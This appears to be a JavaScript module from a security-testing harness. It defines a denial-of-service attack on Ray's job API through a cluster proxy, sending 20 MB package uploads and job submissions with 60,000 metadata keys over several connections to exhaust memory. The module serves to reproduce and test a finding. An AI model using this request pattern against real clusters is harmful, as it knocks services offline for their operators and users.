const CONNECTIONS = 8;
const BYTES = 20_000_000;
const METADATA = 60_000;

/** @type {import('./Target.mjs').Attack} */
export const jobPackages = {
  name: 'packages and submissions over the job API of Ray',
  finding: 'kept in memory until they are forwarded',
  run: target => {
    const cluster = `/api/ray/clusters/${target.victim.namespace}/example-00002/ray`;
    const body = Buffer.alloc(BYTES);
    const metadata = Object.fromEntries(
      Array.from({ length: METADATA }, (_, index) => [`k${index}`, 'v']),
    );
    const submission = JSON.stringify({ entrypoint: 'true', metadata });
    return target.repeat(CONNECTIONS, turn =>
      turn % 2
        ? {
            path: `${cluster}/api/packages/gcs/_ray_pkg_${turn}.zip`,
            ...{ method: 'PUT', body },
          }
        : {
            path: `${cluster}/api/jobs/`,
            body: submission,
            headers: { 'content-type': 'application/json' },
          },
    );
  },
};
